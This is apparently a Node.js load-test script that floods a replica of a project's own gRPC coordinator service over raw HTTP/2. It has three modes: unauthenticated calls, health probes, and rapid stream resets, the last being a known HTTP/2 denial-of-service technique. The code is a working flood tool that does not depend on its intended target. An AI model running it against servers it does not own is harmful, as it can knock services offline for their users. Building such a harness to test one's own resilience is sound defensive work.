// Attacks a replica from a separate process: `node flood.mjs TARGET KIND CONNECTIONS MS`. The kind `calls` is calls
// without a token, at most 100 open on each connection. `probes` is health checks, which need none. `resets` is streams
// that are reset at once. A closed connection is opened again after 5 ms. Prints how many streams and connections it opened.
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import { callHeaders, frame, literal } from './http2-frames.mjs';

// A real attacker has separate machines, so this one must not win by taking the replica's processor.
setPriority(19);
const [target, kind, connections, ms] = process.argv.slice(2);
const [host, port] = target.split(':');
const OPEN_MAX = 100;
const untilMs = performance.now() + Number(ms);
let opened = 0;
let connected = 0;

const headers = Buffer.concat(
  callHeaders(
    kind === 'probes' ? '/grpc.health.v1.Health/Check' : '/dibs.v1.CoordinatorService/GetOrLock',
  ).map((header) => literal(...header)),
);
const message = Buffer.from(
  kind === 'probes' ? '\0\0\0\0\0' : '\0\0\0\0\x0a\x0a\x04shop\x12\x02aa',
  'latin1',
);
const reset = Buffer.of(0, 0, 0, 8);
const streamOf = (stream) =>
  kind === 'resets'
    ? [frame(1, 4, stream, headers), frame(3, 0, stream, reset)]
    : [frame(1, 4, stream, headers), frame(0, 1, stream, message)];

/** How many streams a chunk of frames ends, by the end flag or by a reset. A frame may begin in an earlier chunk. */
function counterOfEnds(onEnd) {
  let rest = Buffer.alloc(0);
  return (bytes) => {
    rest = Buffer.concat([rest, bytes]);
    while (rest.byteLength >= 9) {
      const length = rest.readUIntBE(0, 3);
      if (rest.byteLength < 9 + length) return;
      if (rest[3] === 1 && (rest[4] & 1) === 1) onEnd();
      rest = rest.subarray(9 + length);
    }
  };
}

async function flood() {
  while (performance.now() < untilMs) {
    const socket = connect({ host, port: Number(port) });
    let isOpen = true;
    let open = 0;
    socket.on('error', () => {});
    socket.on('close', () => {
      isOpen = false;
    });
    socket.on(
      'data',
      counterOfEnds(() => {
        open -= 1;
      }),
    );
    connected += 1;
    socket.write(
      Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0), frame(4, 1, 0)]),
    );
    for (let stream = 1; isOpen && performance.now() < untilMs; ) {
      const frames = [];
      for (let count = 0; count < OPEN_MAX && (kind === 'resets' || open < OPEN_MAX); count += 1) {
        frames.push(...streamOf(stream));
        stream += 2;
        opened += 1;
        if (kind !== 'resets') open += 1;
      }
      if (frames.length > 0) socket.write(Buffer.concat(frames));
      await sleep(1);
    }
    socket.destroy();
    await sleep(5);
  }
}

await Promise.all(Array.from({ length: Number(connections) }, flood));
console.log(JSON.stringify({ opened, connected }));
process.exit(0);
